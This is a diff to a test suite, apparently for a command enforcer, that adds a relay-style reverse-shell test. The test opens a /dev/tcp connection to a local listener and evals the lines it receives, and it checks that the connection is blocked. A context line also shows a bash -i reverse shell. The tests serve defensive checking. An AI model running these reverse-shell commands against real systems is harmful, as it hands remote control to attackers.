@@ -60,6 +60,8 @@ beforeAll(() => {
   // made before the enforcer starts: part of the "image", not drift
   copyFileSync("/bin/true", tmp.join("old-true"));
   copyFileSync("/bin/echo", tmp.join("old-echo")); // outside every allow glob
+  mkdirSync(tmp.join("relay"));
+  copyFileSync("/bin/bash", tmp.join("relay/socat")); // stands for socat exec:sh / gawk |& getline: a relay holding the connection
   chmodSync(tmp.join("old-true"), 0o755);
   writeFileSync(tmp.join("old-script"), "#!/bin/sh\necho old-script-ran\n", { mode: 0o755 });
   writeFileSync(tmp.join("not-yet-executable"), "#!/bin/sh\necho chmod-ran\n", { mode: 0o644 });
@@ -113,6 +115,17 @@ os.system("bash -c \\"bash -i >& /dev/tcp/127.0.0.1/${p} 0>&1\\"")'`,
     const a = await attacker("127.0.0.1");
     try {
       const r = await bash(mechanism, command(a.port));
+      expectBlockedBy(r, "exec.reverseShell");
+      expect(a.received()).not.toContain("SHELL-42");
+    } finally {
+      await a.close();
+    }
+  });
+
+  test("a relay (socat, awk) holding the connection and starting the commands: refused", async () => {
+    const a = await attacker("127.0.0.1");
+    try {
+      const r = await bash(mechanism, `${tmp.join("relay/socat")} -c 'exec 5<>/dev/tcp/127.0.0.1/${a.port}; read -r l <&5; eval "$l" >&5 2>&5'`);
       expectBlockedBy(r, "exec.reverseShell");
       expect(a.received()).not.toContain("SHELL-42");
     } finally {
